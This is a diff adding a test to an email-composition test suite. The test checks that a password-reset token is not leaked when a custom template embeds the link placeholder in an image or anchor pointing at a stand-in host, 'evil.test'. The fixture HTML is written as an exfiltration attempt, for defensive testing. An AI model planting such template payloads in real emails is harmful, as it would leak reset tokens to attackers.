@@ -92,6 +92,16 @@ describe("texts of mails", () => {
     expect(made.text).to.equal((await compose(parts(), sender(), "nl", undefined)).text);
   });
 
+  it("gives the secret of a link to nobody but the link: not to an image, nor to an address of the template's own", async () => {
+    const body =
+      '<p><img src="https://evil.test/a?{{ link }}" /><a href="https://evil.test/b?{{ link }}">b</a>' +
+      '<a href="{{ link }}&x=1">d</a><a title="{{ link }}" href="{{ link }}">e</a> {{ link }}</p>';
+    const { html } = await compose(parts(), sender(), "nl", { subject: "", body });
+    const link = "https://noord.kantoor.test/reset-password?token=T0K3N";
+    expect(html).to.contain(`href="${link}">e</a> ${link}</p>`);
+    expect(html.match(/T0K3N/g)).to.have.length(2);
+  });
+
   it("takes a blank subject or body for the built-in one, each by itself", async () => {
     const builtIn = await compose(parts(), sender(), "nl", undefined);
     const onlyBody = await compose(parts(), sender(), "nl", { subject: "  ", body: "<p>Eigen tekst</p>" });
